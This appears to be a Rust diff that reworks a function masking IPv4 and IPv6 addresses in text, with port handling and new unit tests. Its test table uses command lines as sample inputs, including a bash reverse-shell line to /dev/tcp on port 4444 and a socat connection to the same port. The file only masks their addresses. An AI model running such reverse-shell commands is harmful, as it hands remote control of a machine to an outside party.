@@ -27,38 +27,72 @@ pub(crate) fn mask(value: &mut Value) {
 }
 
 /// The text with its addresses masked; `None` where there are none.
-fn masked_text(text: &str) -> Option<String> {
+pub(crate) fn masked_text(text: &str) -> Option<String> {
+    let masked = masked_ipv6(&masked_ipv4(text));
+    (masked != text).then_some(masked)
+}
+
+/// Whether a character beside an address makes it a part of a word or of a longer number.
+fn is_of_word(c: Option<char>) -> bool {
+    c.is_some_and(|c| c.is_alphanumeric() || c == '_')
+}
+
+/// Masks four numbers with dots between them, whatever stands around them but more of the same.
+fn masked_ipv4(text: &str) -> String {
+    let mut masked = String::with_capacity(text.len());
+    let mut at = 0;
+    while let Some(start) = text[at..].find(|c: char| c.is_ascii_digit()).map(|found| at + found) {
+        let is_part = |c: char| c.is_ascii_digit() || c == '.';
+        let end = text[start..].find(|c| !is_part(c)).map_or(text.len(), |found| start + found);
+        // A dot at the end is that of a sentence.
+        let number = text[start..end].trim_end_matches('.');
+        let (before, after) = (text[..start].chars().next_back(), text[start + number.len()..].chars().next());
+        let stands_alone = !is_of_word(before) && before != Some('.') && !is_of_word(after);
+        masked.push_str(&text[at..start]);
+        match number.parse::<Ipv4Addr>().ok().filter(|_| stands_alone) {
+            Some(address) => masked.push_str(&masked_address(address.into()).to_string()),
+            None => masked.push_str(number),
+        }
+        masked.push_str(&text[start + number.len()..end]);
+        at = end;
+    }
+    masked.push_str(&text[at..]);
+    masked
+}
+
+/// Masks addresses with colons; a port may stand on either side, behind one more.
+fn masked_ipv6(text: &str) -> String {
     let is_part = |c: char| c.is_ascii_hexdigit() || matches!(c, '.' | ':');
     let mut masked = String::with_capacity(text.len());
     let mut at = 0;
     while let Some(start) = text[at..].find(is_part).map(|found| at + found) {
         let end = text[start..].find(|c| !is_part(c)).map_or(text.len(), |found| start + found);
-        let before = text[..start].chars().next_back();
-        let after = text[end..].chars().next();
-        // Letters beside it make it a part of a word.
-        let stands_alone = ![before, after].into_iter().flatten().any(|c| c.is_alphanumeric() || c == '_');
+        let (before, after) = (text[..start].chars().next_back(), text[end..].chars().next());
         masked.push_str(&text[at..start]);
-        match masked_run(&text[start..end]).filter(|_| stands_alone) {
+        let run = &text[start..end];
+        match Some(run).filter(|_| !is_of_word(before) && !is_of_word(after)).and_then(masked_run) {
             Some(run) => masked.push_str(&run),
-            None => masked.push_str(&text[start..end]),
+            None => masked.push_str(run),
         }
         at = end;
     }
     masked.push_str(&text[at..]);
-    (masked != text).then_some(masked)
+    masked
 }
 
-/// A run of the characters of addresses: an address, or one with a port behind it, or with a dot that ends a sentence.
+/// A run of the characters of addresses as far as it is one.
 fn masked_run(run: &str) -> Option<String> {
-    let body = run.trim_end_matches(['.', ':']);
-    let ending = &run[body.len()..];
-    if let Ok(address) = body.parse::<IpAddr>() {
-        return Some(format!("{}{ending}", masked_address(address)));
-    }
-    let (address, port) = body.split_once(':')?;
-    let address = address.parse::<Ipv4Addr>().ok()?;
-    port.parse::<u16>().ok()?;
-    Some(format!("{}:{port}{ending}", masked_address(address.into())))
+    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
+    let whole = (0, run.len());
+    let after_port =
+        run.split_once(':').filter(|(port, _)| is_number(port)).map(|(port, _)| (port.len() + 1, run.len()));
+    let before_port = run.rsplit_once(':').filter(|(_, port)| is_number(port)).map(|(address, _)| (0, address.len()));
+    let before_end = Some((0, run.trim_end_matches(['.', ':']).len()));
+    let parts = [Some(whole), before_end, after_port, before_port];
+    parts.into_iter().flatten().find_map(|(start, end)| {
+        let address = run[start..end].parse::<Ipv6Addr>().ok()?;
+        Some(format!("{}{}{}", &run[..start], masked_address(address.into()), &run[end..]))
+    })
 }
 
 fn masked_address(address: IpAddr) -> IpAddr {
@@ -97,6 +131,12 @@ mod tests {
             ("[2001:db8:1:2::7]:443", "[2001:db8:1::]:443"),
             ("::ffff:192.0.2.77", "::ffff:192.0.2.0"),
             ("ssh root@192.0.2.77, then 198.51.100.3.", "ssh root@192.0.2.0, then 198.51.100.0."),
+            ("socat TCP:203.0.113.9:4444 -", "socat TCP:203.0.113.0:4444 -"),
+            ("ssh -R 8080:203.0.113.9:80 u@h", "ssh -R 8080:203.0.113.0:80 u@h"),
+            ("curl --resolve h:443:203.0.113.9", "curl --resolve h:443:203.0.113.0"),
+            ("scp root@203.0.113.9:backup.tar .", "scp root@203.0.113.0:backup.tar ."),
+            ("rsync 203.0.113.9::backup", "rsync 203.0.113.0::backup"),
+            ("443:2001:db8:1:2:3:4:5:7", "443:2001:db8:1::"),
             ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "bash -i >& /dev/tcp/203.0.113.0/4444 0>&1"),
         ] {
             assert_eq!(masked_text(text).as_deref(), Some(wanted), "{text}");
